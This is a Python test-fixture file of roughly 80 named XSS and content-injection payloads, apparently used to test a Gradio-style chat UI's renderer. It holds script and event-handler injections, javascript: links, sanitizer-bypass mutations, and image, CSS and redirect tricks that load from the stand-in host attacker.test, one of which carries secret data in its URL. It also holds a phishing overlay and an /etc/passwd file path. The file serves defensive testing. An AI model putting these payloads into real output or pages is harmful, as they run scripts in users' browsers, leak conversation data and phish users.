"""Texts that try to run a script, load something, leave the page or break it. One a line of reasoning, not of code.

Sources: the OWASP XSS filter evasion cheat sheet, DOMPurify's and marked's own test names, and reports about chat UIs
that loaded images from answers (see docs/web-ui.md).
"""

from __future__ import annotations

AWAY = "http://attacker.test"
RUN = "window.hacked=1"

ATTACKS = {
    # Markdown that loads
    "image": f"![x]({AWAY}/md.png)",
    "image with data in its address": f"![x]({AWAY}/log?q=secret 'title')",
    "reference image": f"![x][r]\n\n[r]: {AWAY}/ref.png",
    "image in a link": f"[![x]({AWAY}/in-link.png)]({AWAY}/link)",
    "image in a table": f"|a|\n|-|\n|![x]({AWAY}/table.png)|",
    "image over several lines": f"![x\ny](\n{AWAY}/lines.png\n)",
    "image without scheme": "![x](//attacker.test/schemeless.png)",
    "image with entities": "![x](http&colon;//attacker.test/entity.png)",
    "svg as an image": f"![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>)",
    # HTML that loads
    "img": f'<img src="{AWAY}/img.png">',
    "img with srcset": f'<img srcset="{AWAY}/srcset.png 1x">',
    "picture": f'<picture><source srcset="{AWAY}/picture.png"><img></picture>',
    "video": f'<video poster="{AWAY}/poster.png" src="{AWAY}/v.mp4" autoplay></video>',
    "audio": f'<audio src="{AWAY}/a.mp3" autoplay></audio>',
    "iframe": f'<iframe src="{AWAY}/frame"></iframe>',
    "iframe with its own page": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="{AWAY}/object"></object>',
    "embed": f'<embed src="{AWAY}/embed">',
    "style sheet": f'<link rel="stylesheet" href="{AWAY}/link.css">',
    "prefetch": f'<link rel="prefetch" href="{AWAY}/prefetch"><link rel="dns-prefetch" href="//attacker.test">',
    "style with url()": f'<style>body{{background:url("{AWAY}/style.png")}}</style>',
    "style with @import": f"<style>@import url({AWAY}/import.css);</style>",
    "style attribute": f'<div style="background:url({AWAY}/attribute.png)">x</div>',
    "style over the whole page": '<div style="position:fixed;inset:0;z-index:99999;background:#fff">phished</div>',
    "table background": f'<table background="{AWAY}/table-bg.png"><tr><td>x</td></tr></table>',
    "input image": f'<input type="image" src="{AWAY}/input.png">',
    "svg image": f'<svg><image href="{AWAY}/svg.png"/></svg>',
    "svg use": f'<svg><use href="{AWAY}/use.svg#x"/></svg>',
    "svg filter": f'<svg><filter><feImage href="{AWAY}/fe.png"/></filter></svg>',
    # HTML that runs
    "script": f"<script>{RUN}</script>",
    "script from away": f'<script src="{AWAY}/s.js"></script>',
    "script of ours": '<script src="./assets/index.js"></script>',
    "script split in two": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script with strange letters": f"<ſcript>{RUN}</ſcript>",
    "onerror": f"<img src=x onerror={RUN}>",
    "onerror without spaces": f"<img/src=x/onerror={RUN}>",
    "onerror with line breaks": f"<img\nsrc=x\nonerror\n=\n{RUN}>",
    "svg onload": f"<svg onload={RUN}>",
    "svg animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "details ontoggle": f"<details open ontoggle={RUN}>x</details>",
    "body onload": f"<body onload={RUN}>",
    "focus": f"<input autofocus onfocus={RUN}>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "mathml": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "comment that ends early": f"<!--><img src=x onerror={RUN}>-->",
    "CDATA": f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "processing instruction": f"<?x <img src=x onerror={RUN}> ?>",
    "template": f"<template><img src=x onerror={RUN}></template>",
    "custom element": f"<gradio-app src='{AWAY}'></gradio-app><script-x onclick={RUN}>x</script-x>",
    "nested details": "<details>" * 50 + f"<img src=x onerror={RUN}>",
    # Links
    "javascript link": f'<a href="javascript:{RUN}">click me</a>',
    "javascript link in Markdown": f"[click me](javascript:{RUN})",
    "javascript link with entities": f"[click me](java&#115;cript:{RUN})",
    "javascript link with a tab": f"[click me](java\tscript:{RUN})",
    "javascript autolink": f"<javascript:{RUN}>",
    "javascript reference": f"[click me][j]\n\n[j]: javascript:{RUN}",
    "vbscript link": "[click me](vbscript:msgbox)",
    "data link": f"[click me](data:text/html,<script>{RUN}</script>)",
    # Leaving the page
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}/meta">',
    "base": f'<base href="{AWAY}/">',
    "form": f'<form action="{AWAY}/form" id="f"><button>go</button></form><button form="f">go</button>',
    "button with formaction": f'<button formaction="{AWAY}/formaction">go</button>',
    "our own logout": "![x](./logout) ![x](./login/oidc) ![x](./?lang=zh)",
    "names of the page": '<img name="cookie"><form id="gradio_config"></form><a id="fetch"></a>',
    # LaTeX, diagrams, code
    "LaTeX link": rf"$\href{{javascript:{RUN}}}{{x}}$ $\url{{javascript:{RUN}}}$",
    "LaTeX image": rf"$\includegraphics{{{AWAY}/latex.png}}$",
    "LaTeX HTML": rf"$\htmlData{{x=y}}{{z}} \htmlStyle{{background:url({AWAY}/latex-style.png)}}{{x}}$",
    "LaTeX that never ends": r"$\def\x{\x\x}\x$ $\newcommand\y{\y\y\y}\y$",
    "LaTeX with HTML": f"$$<img src=x onerror={RUN}>$$",
    "diagram": f'```mermaid\ngraph TD\nA["<img src=x onerror={RUN}>"] --> B\nclick A href "javascript:{RUN}"\n```',
    "diagram with a style": (
        "```mermaid\n%%{init: {'themeCSS': '@import url(http://attacker.test/m.css);'}}%%\ngraph TD\nA-->B\n```"
    ),
    "code with HTML": f"```html\n<img src=x onerror={RUN}>\n```",
    "code whose language is HTML": f'```"><img src=x onerror={RUN}>\nx\n```',
    "inline code": f"`<img src=x onerror={RUN}>`",
    # Reasoning, turning round, strange letters
    "reasoning": f"<think><img src={AWAY}/think.png onerror={RUN}></think>",
    "reasoning that never ends": f"<think>![x]({AWAY}/think-open.png)",
    "turned round": "\u202e<gnp.x/tset.rekcatta//:ptth=crs gmi>\u2066",
    "zero bytes": f"<img\u0000src=x onerror={RUN}><scr\u200bipt>{RUN}</script>",
    "wide brackets": f"＜script＞{RUN}＜/script＞",
    "UTF-7": "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
    "Gradio's own words": '__i18n__{"__type__":"translation_metadata","key":"common.error"}',
    "Gradio's file path": '{"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}',
}
